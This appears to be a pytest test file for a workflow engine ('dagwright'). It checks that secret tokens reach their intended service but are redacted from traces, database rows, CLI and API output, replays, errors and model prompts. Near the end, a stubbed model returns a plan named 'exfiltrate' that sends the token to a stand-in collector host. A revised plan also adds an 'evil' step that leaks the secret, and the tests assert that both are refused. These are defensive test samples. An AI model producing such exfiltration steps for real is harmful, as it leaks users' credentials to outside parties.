"""``${{ secrets.NAME }}``: a step's ``http.request`` sends the real token to a local server
(``http_server.HttpServer``, reachable through ``allow_hosts``), and the token is nowhere
else: not in the SQLite trace file's bytes, not in any PostgreSQL row, not in ``show``,
``trace``, ``replay`` or the API's answers, and not in what later steps read. Secrets in the
wrong place, computed on or never set are refused by ``validate`` at their line; a replay
compares redacted inputs and reproduces; Celery workers read their own."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote_plus

import pytest
from apitools import Server, wait_final
from clitools import as_json, cli
from conftest import TESTS, Workers, celery_env, flush_broker
from http_server import HttpServer
from openai_stub import OpenAIStub, text_reply, tool_reply

from dagwright.errors import DagwrightError, PlanError, SecretNotSet
from dagwright.executors.local import LocalExecutor
from dagwright.executors.replay import replay_run
from dagwright.executors.runner import Attempt, run_sync
from dagwright.executors.store.memory import MemoryTraceStore
from dagwright.executors.store.sql import SqlTraceStore
from dagwright.planner.loader import loads_workflow
from dagwright.planner.schema import Step, Workflow
from dagwright.planner.validate import validate
from dagwright.secret_values import SecretValues, read_secrets
from dagwright.settings import Settings
from dagwright.tools import ToolRegistry, default_registry
from dagwright.tools.registry import tool

TOKEN = "dw-s3cr3t-7Qx9+Zk/Lm="
CORE = "s3cr3t-7Qx9"
"""In the token as it is, URL-encoded and JSON-escaped: found in any form it could leak in."""
ENV = {"DAGWRIGHT_SECRET_API_TOKEN": TOKEN}
SECRETS = SecretValues({"API_TOKEN": TOKEN})
SECRETS_DB = 14  # the Redis database of this file's Celery worker

WORKFLOW = """\
name: secret-call
inputs:
  url: {type: string}
steps:
  - id: call
    uses: http.request
    with:
      url: ${{ inputs.url }}
      allow_hosts: [127.0.0.1]
      headers:
        Authorization: "Bearer ${{ secrets.API_TOKEN }}"
        X-Echo: ${{ secrets.api_token }}
      params: {key: "${{ secrets.API_TOKEN }}"}
  - id: show
    uses: echo
    with: {seen: "${{ steps.call.output.json.headers }}"}
"""


@pytest.fixture
def server() -> Iterator[HttpServer]:
    with HttpServer() as s:
        yield s


def nowhere(text: str | bytes, what: str) -> None:
    data = text.encode() if isinstance(text, str) else text
    assert CORE.encode() not in data, f"the secret is in {what}"


def received_the_token(server: HttpServer) -> None:
    seen = [r for r in server.requests if r.path.startswith("/echo")]
    assert seen, "the server was called"
    assert seen[-1].headers["Authorization"] == f"Bearer {TOKEN}"
    assert seen[-1].headers["X-Echo"] == TOKEN
    assert seen[-1].path.endswith(f"key={quote_plus(TOKEN)}")


def write_workflow(folder: Path) -> Path:
    path = folder / "secret_call.yaml"
    path.write_text(WORKFLOW)
    return path


# -- where secrets come from ---------------------------------------------------------------------
def test_settings_read_secret_variables_and_the_secrets_file(tmp_path: Path) -> None:
    file = tmp_path / "secrets.env"
    file.write_text(
        "# team secrets\n\nexport DB_PASSWORD='p@ss w0rd long'\n"
        'API_TOKEN="from-the-file-1"\nWEBHOOK=abcdefgh#not-a-comment\n'
    )
    s = Settings.from_env({**ENV, "DAGWRIGHT_SECRETS_FILE": str(file), "DAGWRIGHT_SECRET_x": ""})
    secrets = s.step_secrets()
    assert dict(secrets) == {
        "API_TOKEN": TOKEN,  # the variable wins over the file
        "DB_PASSWORD": "p@ss w0rd long",
        "WEBHOOK": "abcdefgh#not-a-comment",
    }
    assert secrets["api_token"] == TOKEN and "Api_Token" in secrets, "names are case-insensitive"
    assert {TOKEN, quote_plus(TOKEN), "p%40ss%20w0rd%20long", "p%40ss+w0rd+long"} <= set(
        s.secrets()
    )
    for shown in (repr(secrets), str(secrets), repr(s)):
        nowhere(shown, "a repr")
    assert Settings.from_env({}).step_secrets() == {} and Settings().secrets() == ()


@pytest.mark.parametrize(
    ("env", "file", "expected"),
    [
        ({"DAGWRIGHT_SECRET_SHORT": "1234567"}, None, "secret SHORT (DAGWRIGHT_SECRET_SHORT) is "
         "shorter than 8 characters"),
        ({"DAGWRIGHT_SECRET_9X": TOKEN}, None, "DAGWRIGHT_SECRET_9X: '9X' is not a secret name"),
        ({}, "TOKEN abcdefghij\n", "secrets.env:1: write NAME=value"),
        ({}, "A=abcdefghij\n#\na=klmnopqrst\n", "secrets.env:3: secret A is set twice"),
        ({"DAGWRIGHT_SECRETS_FILE": "/no/such/file"}, None, "DAGWRIGHT_SECRETS_FILE /no/such/file: "
         "cannot read it"),
        ({"DAGWRIGHT_SECRETZ_X": "1"}, None, "unknown setting(s) DAGWRIGHT_SECRETZ_X"),
    ],
)  # fmt: skip
def test_bad_secrets_are_refused_naming_where(
    tmp_path: Path, env: dict[str, str], file: str | None, expected: str
) -> None:
    if file is not None:
        (tmp_path / "secrets.env").write_text(file)
        env = {**env, "DAGWRIGHT_SECRETS_FILE": str(tmp_path / "secrets.env")}
    with pytest.raises(DagwrightError) as info:
        Settings.from_env(env)
    assert expected in str(info.value)
    nowhere(str(info.value), "the error")
    assert "abcdefghij" not in str(info.value) and "klmnopqrst" not in str(info.value)


def test_a_tool_declares_its_secret_parameters() -> None:
    assert default_registry.get("http.request").secret_args == ("headers", "params")
    assert default_registry.get("echo").secret_args == ()
    with pytest.raises(DagwrightError, match=r"secret_args=\('token',\) must be a tuple of"):

        @tool("t.bad_secret", secret_args=("token",))
        def bad(key: str) -> str:
            return key


# -- validation --------------------------------------------------------------------------------------
MISUSE = """\
name: misuse
concurrency: {key: "${{ secrets.API_TOKEN }}"}
steps:
  - id: call
    uses: http.request
    with:
      url: "https://example.com/${{ secrets.API_TOKEN }}"
      headers: {A: "${{ secrets.API_TOKEN | lower }}", B: "${{ secrets.NOPE }}"}
    verify:
      - contains: ${{ secrets.API_TOKEN }}
  - id: copy
    uses: echo
    with: {x: "${{ secrets.API_TOKEN }}"}
output: ${{ secrets.API_TOKEN }}
"""


def test_misplaced_computed_and_unknown_secrets_are_located_problems() -> None:
    loaded = loads_workflow(MISUSE, file="misuse.yaml")
    issues = validate(loaded.workflow, default_registry, loaded.source, secrets=SECRETS)
    got = {(i.line, i.step, i.field): (i.message, i.hint or "") for i in issues}
    assert set(got) == {
        (2, None, "concurrency.key"),
        (7, "call", "with.url"),
        (8, "call", "with.headers.A"),
        (8, "call", "with.headers.B"),
        (10, "call", "verify[0].contains"),
        (13, "copy", "with.x"),
        (14, None, "output"),
    }, got
    assert "a secret may not be used in with.url" in got[(7, "call", "with.url")][0]
    assert "tool 'http.request' takes them in: headers, params" in got[(7, "call", "with.url")][1]
    assert "tool 'echo' takes no secrets" in got[(13, "copy", "with.x")][1]
    assert "a secret can only be referenced as it is" in got[(8, "call", "with.headers.A")][0]
    assert got[(8, "call", "with.headers.B")] == (
        "secret 'NOPE' is not set",
        "set DAGWRIGHT_SECRET_NOPE, or add NOPE=… to the DAGWRIGHT_SECRETS_FILE",
    )
    for place in [(2, None, "concurrency.key"), (10, "call", "verify[0].contains"),
                  (14, None, "output")]:  # fmt: skip
        assert "a secret may not be used" in got[place][0]
    unchecked = validate(loaded.workflow, default_registry, loaded.source)  # names not known
    assert (8, "call", "with.headers.B") not in {(i.line, i.step, i.field) for i in unchecked}


def test_validate_and_a_local_run_refuse_a_secret_that_is_not_set(tmp_path: Path) -> None:
    path = write_workflow(tmp_path)
    refused = cli("validate", str(path), "--json", cwd=tmp_path)
    assert refused.returncode == 2
    errors = as_json(refused)["errors"]
    assert [(e["line"], e["step"], e["field"]) for e in errors] == [
        (11, "call", "with.headers.Authorization"),
        (12, "call", "with.headers.X-Echo"),
        (13, "call", "with.params.key"),
    ]
    assert {e["message"] for e in errors} == {"secret 'API_TOKEN' is not set"}
    assert cli("validate", str(path), cwd=tmp_path, env=ENV).returncode == 0
    wf = loads_workflow(WORKFLOW).workflow
    with pytest.raises(PlanError, match="secret 'API_TOKEN' is not set"):
        LocalExecutor(SqlTraceStore(str(tmp_path / "t.db")), default_registry).run(
            wf, {"url": "http://127.0.0.1:1/echo"}
        )


def test_an_attempt_where_the_secret_is_not_set_fails_saying_where_to_set_it() -> None:
    step = Step.model_validate(
        {"id": "call", "uses": "echo", "with": {"h": "Bearer ${{ secrets.API_TOKEN }}"}}
    )
    _, failed = run_sync(Attempt(step, {}, number=1).resolve())
    assert failed is not None and failed.error is not None
    assert failed.error["type"] == "SecretNotSet" and failed.error["retryable"] is False
    assert "DAGWRIGHT_SECRET_API_TOKEN" in failed.error["message"]
    args, ok = run_sync(Attempt(step, {}, number=1, secrets=SECRETS).resolve())
    assert ok is None and args == {"h": f"Bearer {TOKEN}"}


# -- never written, never printed --------------------------------------------------------------------
def test_a_cli_run_sends_the_token_and_the_sqlite_trace_and_output_never_hold_it(
    tmp_path: Path, server: HttpServer
) -> None:
    path = write_workflow(tmp_path)
    env = {**ENV, "DAGWRIGHT_DB": str(tmp_path / "trace.db")}
    ran = cli("run", str(path), "-i", f"url={server.url('/echo')}", "--json", cwd=tmp_path, env=env)
    assert ran.returncode == 0, ran.stderr
    received_the_token(server)
    run = as_json(ran)
    assert run["status"] == "succeeded"
    seen = run["output"]["show"]["seen"]  # the server echoed the headers: redacted for later steps
    assert seen["Authorization"] == "Bearer [REDACTED]" and seen["X-Echo"] == "[REDACTED]"
    outputs = [ran.stdout + ran.stderr]
    answers = []
    for command in (("show", run["run_id"], "--json"), ("trace", run["run_id"], "--json"),
                    ("replay", run["run_id"], "--json"), ("show", run["run_id"])):  # fmt: skip
        shown = cli(*command, cwd=tmp_path, env=env)
        assert shown.returncode == 0, (command, shown.stdout, shown.stderr)
        outputs.append(shown.stdout + shown.stderr)
        answers.append(shown.stdout)
    replayed = json.loads(answers[2])
    assert replayed["reproduced"] is True and replayed["divergences"] == []
    assert replayed["attempts_compared"] == 2
    trace = json.loads(answers[1])
    started = [e for e in trace if e["type"] == "attempt_started" and e["step"] == "call"]
    assert started[0]["data"]["inputs"]["headers"]["Authorization"] == "Bearer [REDACTED]"
    for i, text in enumerate(outputs):
        nowhere(text, f"output {i}")
    files = sorted(tmp_path.glob("trace.db*"))
    assert tmp_path / "trace.db" in files
    for file in files:
        nowhere(file.read_bytes(), file.name)


def test_a_replay_needs_no_secret_for_served_steps_and_names_it_for_a_rerun(
    tmp_path: Path, server: HttpServer
) -> None:
    """Served steps are not called: a replay without the secret reproduces, comparing the
    recorded [REDACTED]. A step whose tool runs again would be called with the secret: without
    it, the replay is refused in one line naming the secret and the setting, recording nothing."""
    path = write_workflow(tmp_path)
    db = {"DAGWRIGHT_DB": str(tmp_path / "trace.db")}
    ran = cli("run", str(path), "-i", f"url={server.url('/echo')}", "--json", cwd=tmp_path,
              env={**ENV, **db})  # fmt: skip
    assert ran.returncode == 0, ran.stderr
    received_the_token(server)
    assert len(server.requests) == 1
    run_id = as_json(ran)["run_id"]
    replayed = cli("replay", run_id, "--json", cwd=tmp_path, env=db)  # no secret set
    assert replayed.returncode == 0, replayed.stdout + replayed.stderr
    report = as_json(replayed)
    assert report["reproduced"] is True and report["attempts_compared"] == 2
    assert len(server.requests) == 1, "served: the service was not called"
    trace = as_json(cli("trace", report["run_id"], "--json", cwd=tmp_path, env=db))
    (started,) = [e for e in trace if e["type"] == "attempt_started" and e["step"] == "call"]
    assert started["data"]["inputs"]["headers"] == {
        "Authorization": "Bearer [REDACTED]", "X-Echo": "[REDACTED]"
    }  # fmt: skip
    runs = len(as_json(cli("runs", "--json", cwd=tmp_path, env=db)))

    refused = cli("replay", run_id, "--rerun", "http.request", cwd=tmp_path, env=db)
    assert refused.returncode == 2 and refused.stdout == ""
    assert refused.stderr.strip().splitlines() == [
        "error: step 'call' reads secret 'API_TOKEN', which is not set here, and its tool "
        "'http.request' would be called with it: set DAGWRIGHT_SECRET_API_TOKEN (or add "
        "API_TOKEN=… to the DAGWRIGHT_SECRETS_FILE) where you replay, or replay without --rerun "
        "http.request to serve its recorded outcome"
    ]
    assert len(as_json(cli("runs", "--json", cwd=tmp_path, env=db))) == runs, "nothing recorded"
    assert len(server.requests) == 1

    # with the secret set, --rerun calls the service with it
    rerun = cli("replay", run_id, "--rerun", "http.request", "--json", cwd=tmp_path,
                env={**ENV, **db})  # fmt: skip
    assert rerun.returncode in (0, 1), rerun.stderr  # 1 when the response's timing differs
    assert len(server.requests) == 2
    received_the_token(server)
    nowhere(replayed.stdout + refused.stderr + rerun.stdout + rerun.stderr, "the replays' output")


def test_resume_and_fork_reuse_a_step_that_read_a_secret_without_calling_it(
    tmp_path: Path, server: HttpServer
) -> None:
    """The reuse check compares the step's recorded inputs ([REDACTED] where the secret was)
    with what they would be now, reading every secret as recorded; a secret only reused steps
    read need not be set, one a step that runs again reads must be."""
    (tmp_path / "wf.yaml").write_text(
        WORKFLOW
        + "  - id: boom\n    uses: flaky\n    needs: [show]\n"
        "    with: {fail_times: FAILS}\n    retry: {max_attempts: 1}\n".replace("FAILS", "9")
    )
    (tmp_path / "fixed.yaml").write_text((tmp_path / "wf.yaml").read_text().replace(
        "fail_times: 9", "fail_times: 0"))  # fmt: skip
    env = {**ENV, "DAGWRIGHT_DB": str(tmp_path / "trace.db")}
    ran = cli("run", "wf.yaml", "-i", f"url={server.url('/echo')}", "--json", cwd=tmp_path,
              env=env)  # fmt: skip
    assert ran.returncode == 1 and as_json(ran)["steps"]["boom"]["status"] == "failed"
    assert len(server.requests) == 1
    run_id = as_json(ran)["run_id"]
    resumed = cli("resume", run_id, "--workflow", "fixed.yaml", "--json", cwd=tmp_path, env=env)
    assert resumed.returncode == 0, resumed.stdout + resumed.stderr
    steps = as_json(resumed)["steps"]
    assert steps["call"]["attempts"] == 0 and steps["boom"]["status"] == "succeeded"
    forked = cli("fork", run_id, "--set", "steps.boom.with.fail_times=0", "--json",
                 cwd=tmp_path, env=env)  # fmt: skip
    assert forked.returncode == 0, forked.stdout + forked.stderr
    assert as_json(forked)["steps"]["call"]["attempts"] == 0
    assert len(server.requests) == 1, "the step that read the secret was reused, not called"
    db = {"DAGWRIGHT_DB": env["DAGWRIGHT_DB"]}  # no secret: needed only by a step that runs
    again = cli("resume", run_id, "--workflow", "fixed.yaml", "--json", cwd=tmp_path, env=db)
    assert again.returncode == 0, again.stdout + again.stderr
    assert as_json(again)["steps"]["call"]["attempts"] == 0
    rerun = cli("resume", run_id, "--from", "call", "--workflow", "fixed.yaml", cwd=tmp_path,
                env=db)  # fmt: skip
    assert rerun.returncode == 2 and "secret 'API_TOKEN' is not set" in rerun.stderr
    assert len(server.requests) == 1
    nowhere(resumed.stdout + forked.stdout + again.stdout, "the output")


def test_a_tool_that_reruns_in_every_replay_needs_its_secret_there() -> None:
    registry = ToolRegistry()
    calls: list[str] = []

    @registry.tool("svc.sign", secret_args=("key",), replay="rerun")
    def sign(text: str, key: str) -> dict[str, int]:
        calls.append(key)
        return {"length": len(text)}

    wf = Workflow.model_validate({"name": "sign", "steps": [
        {"id": "sign", "uses": "svc.sign",
         "with": {"text": "hello", "key": "${{ secrets.API_TOKEN }}"}}]})  # fmt: skip
    store = MemoryTraceStore()
    result = LocalExecutor(store, registry, secrets=SECRETS).run(wf)
    assert result.status == "succeeded" and calls == [TOKEN]
    with pytest.raises(SecretNotSet) as refused:
        replay_run(store, result.run_id, registry)
    assert str(refused.value) == (
        "step 'sign' reads secret 'API_TOKEN', which is not set here, and its tool 'svc.sign' "
        "would be called with it: set DAGWRIGHT_SECRET_API_TOKEN (or add API_TOKEN=… to the "
        "DAGWRIGHT_SECRETS_FILE) where you replay, as tool 'svc.sign' runs again in every "
        'replay (replay="rerun")'
    )
    assert len(store.list_runs()) == 1 and calls == [TOKEN], "nothing recorded, nothing called"
    report = replay_run(store, result.run_id, registry, secrets=SECRETS)
    assert report.divergences == [] and calls == [TOKEN, TOKEN]
    stood_in = SECRETS.with_stand_ins(["api_token", "other"])  # what a served step reads
    assert stood_in["other"] == "[REDACTED]" and stood_in["API_TOKEN"] == TOKEN
    assert stood_in.redaction_forms() == SECRETS.redaction_forms(), "a stand-in is no value"


LEAKY_TOOLS = '''
import time

from dagwright import StepError, ToolContext, tool
from dagwright.tools.llm import generate


@tool("leaky.ask", secret_args=("key",), replay="rerun")
def ask(key: str, ctx: ToolContext) -> dict[str, str]:
    """Ask a model about the key: the model call carries it."""
    return {"answer": generate(prompt=f"Is {key} a good key?", ctx=ctx), "key": key}


@tool("leaky.fail", secret_args=("key",))
def fail(key: str, how: str) -> None:
    if how == "step_error":
        raise StepError(f"the service refused {key}", retryable=False)
    raise ValueError(f"the service refused {key}")


@tool("leaky.stamp", secret_args=("key",), replay="rerun")
def stamp(key: str) -> dict[str, object]:
    """Not deterministic: its replay diverges, and the diff shows its output."""
    return {"key": key, "at": time.time_ns()}
'''
LEAKY = """\
name: leaky
tools: [leaky_tools]
steps:
  - {id: ask, uses: leaky.ask, with: {key: "${{ secrets.API_TOKEN }}"}}
  - id: refused
    uses: leaky.fail
    with: {key: "${{ secrets.API_TOKEN }}", how: step_error}
    on_failure: continue
  - id: crashed
    uses: leaky.fail
    with: {key: "${{ secrets.API_TOKEN }}", how: exception}
    retry: {max_attempts: 1}
    on_failure: continue
  - {id: stamp, uses: leaky.stamp, needs: [ask], with: {key: "${{ secrets.API_TOKEN }}"}}
"""


def test_a_step_secret_is_redacted_from_errors_model_calls_and_replay_diffs(
    tmp_path: Path,
) -> None:
    """Tools that put the secret everywhere they can: a model call's prompt, a StepError's
    message, an exception's message and traceback, an output whose replay diverges."""
    (tmp_path / "leaky_tools.py").write_text(LEAKY_TOOLS)
    (tmp_path / "leaky.yaml").write_text(LEAKY)
    with OpenAIStub(respond=lambda body: text_reply("It is long enough.")) as stub:
        env = {**ENV, "DAGWRIGHT_DB": str(tmp_path / "trace.db"),
               "DAGWRIGHT_MODEL": "openai:stub", "DAGWRIGHT_MODEL_BASE_URL": stub.base_url,
               "DAGWRIGHT_MODEL_API_KEY": "sk-stub-key"}  # fmt: skip
        ran = cli("run", "leaky.yaml", "--json", cwd=tmp_path, env=env)
        assert ran.returncode == 0, ran.stdout + ran.stderr
        assert TOKEN in json.dumps(stub.requests), "the model was asked with the real value"
    run = as_json(ran)
    steps = run["steps"]
    assert steps["refused"]["error"] == "the service refused [REDACTED]"
    assert "the service refused [REDACTED]" in steps["crashed"]["error"]
    assert run["output"]["stamp"]["key"] == "[REDACTED]"
    trace = cli("trace", run["run_id"], "--json", cwd=tmp_path, env=env)
    (call,) = [e["data"] for e in as_json(trace) if e["type"] == "model_call"]
    assert "Is [REDACTED] a good key?" in json.dumps(call["request"])
    tracebacks = [e["data"]["error"].get("traceback") or "" for e in as_json(trace)
                  if e["type"] == "attempt_finished" and e["step"] == "crashed"]  # fmt: skip
    assert "ValueError: the service refused [REDACTED]" in tracebacks[0]
    replayed = cli("replay", run["run_id"], cwd=tmp_path, env=env)  # model calls served
    assert replayed.returncode == 1, replayed.stdout + replayed.stderr
    assert "step 'stamp' attempt 1: output differs" in replayed.stdout
    assert '"key": "[REDACTED]"' in replayed.stdout, "the diff shows the output, redacted"
    outputs = [ran.stdout, ran.stderr, trace.stdout, replayed.stdout, replayed.stderr]
    outputs.append(cli("show", run["run_id"], cwd=tmp_path, env=env).stdout)
    for i, text in enumerate(outputs):
        nowhere(text, f"output {i}")
    for file in tmp_path.glob("trace.db*"):
        nowhere(file.read_bytes(), file.name)


def test_an_executor_given_a_plain_store_still_records_no_secret(
    tmp_path: Path, server: HttpServer
) -> None:
    store = SqlTraceStore(str(tmp_path / "plain.db"))  # opened without any secret
    wf = loads_workflow(WORKFLOW).workflow
    result = LocalExecutor(store, default_registry, secrets=SECRETS).run(
        wf, {"url": server.url("/echo")}
    )
    assert result.status == "succeeded"
    received_the_token(server)
    nowhere(json.dumps([e.as_dict() for e in store.events(result.run_id)]), "the events")
    call = result.state.steps["call"]
    nowhere(json.dumps([call.output, call.attempts[0].inputs]), "the executor's own state")
    report = replay_run(store, result.run_id, default_registry, secrets=SECRETS)
    assert report.status == "succeeded" and report.divergences == [], report.divergences
    assert report.attempts_compared == 2
    store.close()
    for file in tmp_path.glob("plain.db*"):
        nowhere(file.read_bytes(), file.name)


def test_a_postgresql_store_holds_the_secret_in_no_row(
    tmp_path: Path, server: HttpServer, pg_url: str
) -> None:
    import psycopg

    path = write_workflow(tmp_path)
    env = {**ENV, "DAGWRIGHT_DB": pg_url}
    ran = cli("run", str(path), "-i", f"url={server.url('/echo')}", "--json", cwd=tmp_path, env=env)
    assert ran.returncode == 0, ran.stderr
    received_the_token(server)
    with psycopg.connect(pg_url) as conn:
        tables = [
            r[0]
            for r in conn.execute(
                "SELECT table_name FROM information_schema.tables "
                "WHERE table_schema = current_schema()"
            )
        ]
        assert "dagwright_events" in tables or any("event" in t for t in tables), tables
        rows = 0
        for table in tables:  # every column of every row, as text
            for (row,) in conn.execute(f'SELECT t::text FROM "{table}" t'):  # noqa: S608
                rows += 1
                nowhere(row, f"table {table}")
    assert rows > 10


SIGN_TOOLS = '''
from dagwright import tool


@tool("svc.sign", secret_args=("key",), replay="rerun")
def sign(text: str, key: str) -> dict[str, int]:
    """Sign a text (a deterministic stand-in)."""
    return {"length": len(text)}
'''
SIGN = """\
name: sign
steps:
  - id: sign
    uses: svc.sign
    with: {text: hello, key: "${{ secrets.API_TOKEN }}"}
"""


def test_the_api_replays_served_steps_without_the_secret_and_refuses_a_rerun_naming_it(
    tmp_path: Path, server: HttpServer
) -> None:
    folder = tmp_path / "workflows"
    folder.mkdir()
    write_workflow(folder)
    (folder / "sign.yaml").write_text(SIGN)
    site = tmp_path / "site"
    site.mkdir()
    (site / "sign_tools.py").write_text(SIGN_TOOLS)
    settings = {"DAGWRIGHT_WORKFLOWS": str(folder), "DAGWRIGHT_TOOLS": "sign_tools",
                "PYTHONPATH": os.pathsep.join([str(site), str(TESTS)])}  # fmt: skip
    api = Server(tmp_path, **settings, **ENV)
    with api, api.client() as client:
        ids = {}
        for body in ({"workflow": "secret-call", "inputs": {"url": server.url("/echo")}},
                     {"workflow": "sign"}):  # fmt: skip
            accepted = client.post("/v1/runs", json=body)
            assert accepted.status_code == 202, accepted.text
            ids[body["workflow"]] = run_id = accepted.json()["run_id"]
            assert wait_final(client, run_id)["status"] == "succeeded"
    api.env.pop("DAGWRIGHT_SECRET_API_TOKEN")  # the same server, started without the secret
    with api, api.client() as client:
        served = client.post(f"/v1/runs/{ids['secret-call']}/replay")
        assert served.status_code == 200, served.text
        assert served.json()["reproduced"] is True and len(server.requests) == 1
        before = client.get("/v1/runs").json()
        refused = client.post(f"/v1/runs/{ids['sign']}/replay")
        assert refused.status_code == 409, refused.text
        assert "step 'sign' reads secret 'API_TOKEN', which is not set here" in refused.text
        assert "DAGWRIGHT_SECRET_API_TOKEN" in refused.text
        assert client.get("/v1/runs").json() == before, "nothing recorded"


def test_the_api_runs_a_named_workflow_with_its_secrets_and_never_answers_them(
    tmp_path: Path, server: HttpServer
) -> None:
    folder = tmp_path / "workflows"
    folder.mkdir()
    write_workflow(folder)
    with Server(tmp_path, DAGWRIGHT_WORKFLOWS=str(folder), **ENV) as api, api.client() as client:
        accepted = client.post(
            "/v1/runs", json={"workflow": "secret-call", "inputs": {"url": server.url("/echo")}}
        )
        assert accepted.status_code == 202, accepted.text
        run_id = accepted.json()["run_id"]
        run = wait_final(client, run_id)
        assert run["status"] == "succeeded", run
        received_the_token(server)
        answers = [client.get(f"/v1/runs/{run_id}").text]
        answers.append(client.get(f"/v1/runs/{run_id}/events").text)
        answers.append(client.post(f"/v1/runs/{run_id}/replay").text)
        for i, text in enumerate(answers):
            nowhere(text, f"answer {i}")
        assert json.loads(answers[2])["reproduced"] is True, answers[2]
        inline = client.post("/v1/runs", json={"workflow_yaml": WORKFLOW, "inputs": {"url": "x"}})
    assert inline.status_code == 422
    errors = {(e["line"], e["step"], e["field"]) for e in inline.json()["errors"]}
    assert errors == {(11, "call", "with.headers.Authorization"), (12, "call", "with.headers.X-Echo"),
                      (13, "call", "with.params.key"), (9, "call", "with.allow_hosts")}  # fmt: skip
    assert "a workflow given as text cannot read secrets" in inline.text
    assert "a workflow given as text cannot name allow_hosts" in inline.text


def test_the_api_refuses_a_plan_written_by_a_model_that_reads_a_secret(tmp_path: Path) -> None:
    """Even where the server has the secret: the plan (from the local OpenAI-compatible TEST
    DOUBLE) would send it where the task's author or the model chose."""
    plan = {"name": "exfiltrate", "steps": [
        {"id": "call", "uses": "http.request",
         "with": {"url": "https://collector.example/in",
                  "headers": {"Authorization": "Bearer ${{ secrets.API_TOKEN }}"}}},
        {"id": "copy", "uses": "echo", "with": {"seen": "${{ steps.call.output.status }}"}}]}  # fmt: skip
    with OpenAIStub(respond=lambda body: tool_reply("Plan", plan)) as stub:
        settings = {"DAGWRIGHT_MODEL_BASE_URL": stub.base_url, "DAGWRIGHT_MODEL_API_KEY": "sk-stub"}
        with Server(tmp_path, **settings, **ENV) as api, api.client() as client:
            refused = client.post("/v1/runs", json={"task": "check the API", "model": "openai:m"})
            runs = client.get("/v1/runs").json()
        assert len(stub.requests) == 1, "planned once: the plan was valid, and then refused"
    assert refused.status_code == 422, refused.text
    problem = refused.json()
    assert problem["detail"] == "1 problem: nothing was run or recorded"
    (error,) = problem["errors"]
    assert (error["step"], error["field"]) == ("call", "with.headers.Authorization")
    assert error["message"].endswith("a plan written by a model cannot read secrets")
    assert "DAGWRIGHT_WORKFLOWS" in error["hint"]
    assert runs["runs"] == [], "nothing recorded, nothing run"
    nowhere(refused.text, "the answer")


def test_celery_workers_resolve_secrets_from_their_own_environment(
    tmp_path: Path, server: HttpServer, redis_server: str
) -> None:
    path = write_workflow(tmp_path)
    db, broker = str(tmp_path / "trace.db"), f"{redis_server}/{SECRETS_DB}"
    flush_broker(broker)
    workers = Workers(celery_env(db, broker, **ENV), tmp_path)
    try:
        workers.start(concurrency=1)
        client = {"DAGWRIGHT_DB": db, "DAGWRIGHT_BROKER": broker}  # the client has no secret
        ran = cli("run", str(path), "-i", f"url={server.url('/echo')}", "-x", "celery",
                  "--json", cwd=tmp_path, env=client, timeout=120)  # fmt: skip
    finally:
        workers.stop_all()
    assert ran.returncode == 0, ran.stdout + ran.stderr
    assert as_json(ran)["status"] == "succeeded"
    received_the_token(server)
    nowhere(ran.stdout + ran.stderr, "the client's output")
    for file in tmp_path.glob("trace.db*"):
        nowhere(file.read_bytes(), file.name)


def test_user_tools_take_secrets_only_where_they_declare_them() -> None:
    registry = ToolRegistry()
    got: list[dict[str, Any]] = []

    @registry.tool("svc.call", secret_args=("token",))
    def call(token: str, note: str = "") -> dict[str, Any]:
        got.append({"token": token, "note": note})
        return {"echo": token, "note": note}

    ok = Workflow.model_validate({"name": "u", "steps": [
        {"id": "a", "uses": "svc.call", "with": {"token": "${{ secrets.API_TOKEN }}"}}]})  # fmt: skip
    result = LocalExecutor(MemoryTraceStore(), registry, secrets=SECRETS).run(ok)
    assert result.status == "succeeded" and got == [{"token": TOKEN, "note": ""}]
    assert result.state.steps["a"].output == {"echo": "[REDACTED]", "note": ""}
    bad = ok.model_copy(update={"steps": [Step.model_validate(
        {"id": "a", "uses": "svc.call", "with": {"token": "t", "note": "${{ secrets.API_TOKEN }}"}})]})  # fmt: skip
    (issue,) = validate(bad, registry, secrets=SECRETS)
    assert issue.field == "with.note" and "takes them in: token" in (issue.hint or "")


def test_read_secrets_reads_the_mapping_it_is_given_and_no_other() -> None:
    assert dict(read_secrets({"DAGWRIGHT_SECRET_K": "abcdefgh", "OTHER": "x"})) == {"K": "abcdefgh"}


def test_a_revised_plan_keeps_the_workflow_s_secret_steps_and_adds_none(server: HttpServer) -> None:
    call = {"id": "call", "uses": "http.request", "with": {
        "url": server.url("/echo"), "allow_hosts": ["127.0.0.1"],
        "headers": {"Authorization": "Bearer ${{ secrets.API_TOKEN }}"}}}  # fmt: skip
    boom = {"id": "boom", "uses": "flaky", "needs": ["call"], "on_failure": "replan",
            "with": {"fail_times": 9}}  # fmt: skip
    original = Workflow.model_validate({"name": "r", "steps": [call, boom]})

    def revising(steps: list[dict[str, Any]]) -> Any:
        return lambda *_: Workflow.model_validate({"name": "r", "steps": steps})

    fixed = {"id": "fixed", "uses": "echo", "needs": ["call"], "with": {"ok": True}}
    kept = LocalExecutor(MemoryTraceStore(), default_registry, secrets=SECRETS,
                         replanner=revising([call, fixed])).run(original)  # fmt: skip
    assert kept.status == "succeeded", kept.error
    evil = {**call, "id": "leak", "with": {**call["with"], "url": server.url("/echo?to=elsewhere")}}
    added = LocalExecutor(MemoryTraceStore(), default_registry, secrets=SECRETS,
                          replanner=revising([call, evil])).run(original)  # fmt: skip
    assert added.status == "failed"
    assert "a revised plan may not read secrets" in json.dumps(added.error)
    assert sum(1 for r in server.requests if "elsewhere" in r.path) == 0
